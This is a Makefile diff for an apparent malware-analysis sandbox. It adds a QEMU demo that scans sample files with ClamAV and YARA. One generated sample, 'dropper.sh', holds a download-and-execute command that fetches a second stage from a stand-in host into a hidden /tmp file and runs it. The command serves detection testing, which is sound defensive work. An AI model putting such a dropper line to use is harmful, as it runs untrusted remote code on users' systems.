@@ -12,7 +12,7 @@ BENCHTIME ?= 2s
 FUZZTIME      ?= 1m
 FUZZTIME_TEST ?= 3s
 
-.PHONY: all build test demo bench proto lint clean qemu-guest fuzz soak
+.PHONY: all build test demo demo-qemu bench proto lint clean qemu-guest fuzz soak
 
 all: build
 
@@ -71,12 +71,34 @@ demo: build
 	@echo
 	$(BIN)/sandbox vm list
 
+# The main job on real VMs with real engines (docs/examples/qemu.toml): two
+# QEMU VMs of the test guest scan a clean file, a shell dropper, the EICAR
+# file (written here from two halves) and ClamAV's 44 test files, each with
+# ClamAV and with YARA, then the analyses an hour this host did. Each VM
+# gets its own copy of the guest's disk, renewed when the guest is rebuilt.
+QDEMO  := $(BIN)/demo-qemu
+QGUEST := plugins/qemu/guest/cache
+demo-qemu: build qemu-guest
+	@rm -rf $(QDEMO) && mkdir -p $(QDEMO)/samples
+	@for vm in qemu-1 qemu-2; do \
+		[ $(BIN)/$$vm.qcow2 -nt $(QGUEST)/disk.qcow2 ] || cp $(QGUEST)/disk.qcow2 $(BIN)/$$vm.qcow2 || exit 1; \
+	done
+	@printf 'an ordinary text file\n' > $(QDEMO)/samples/notes.txt
+	@printf '#!/bin/sh\ncd /tmp && wget -q http://example.invalid/stage2 -O .s && chmod +x .s && ./.s\n' > $(QDEMO)/samples/dropper.sh
+	@printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$$H+H*' > $(QDEMO)/samples/eicar.com
+	@cp $(QGUEST)/testfiles/* $(QDEMO)/samples/
+	@n=$$(ls $(QDEMO)/samples | wc -l); begun=$$(date +%s.%N); \
+	echo "$(BIN)/sandbox run --config docs/examples/qemu.toml --out $(QDEMO)/results $(QDEMO)/samples/*  ($$n samples)"; \
+	$(BIN)/sandbox run --config docs/examples/qemu.toml --out $(QDEMO)/results $(QDEMO)/samples/* || exit 1; \
+	awk -v n=$$((n * 2)) -v begun=$$begun -v ended=$$(date +%s.%N) 'BEGIN { s = ended - begun; \
+		printf "\n%d analyses (ClamAV and YARA on each sample) on 2 QEMU VMs in %.1f s: %.0f analyses an hour on this host.\n", n, s, n * 3600 / s }'
+
 # Micro-benchmarks run for BENCHTIME; the lifecycle ones take a simulated
 # second per cleanup, so they run a fixed number of cleanups instead, the
 # libvirt driver's a fixed number of restores and cleanups of real domains,
 # and the engine's and the CLI's run whole analyses, once each.
 bench: build
-	$(GO) test -run '^$$' -bench . -benchtime $(BENCHTIME) $$($(GO) list ./... | grep -v -e /core/lifecycle -e /core/engine -e /cmd/sandbox -e /plugins/libvirt)
+	$(GO) test -run '^$$' -bench . -benchtime $(BENCHTIME) -timeout 30m $$($(GO) list ./... | grep -v -e /core/lifecycle -e /core/engine -e /cmd/sandbox -e /plugins/libvirt)
 	$(GO) test -run '^$$' -bench . -benchtime 5x ./plugins/libvirt/
 	$(GO) test -run '^$$' -bench . -benchtime 7x ./core/lifecycle/
 	$(GO) test -run '^$$' -bench . -benchtime 1x ./core/engine/ ./cmd/sandbox/
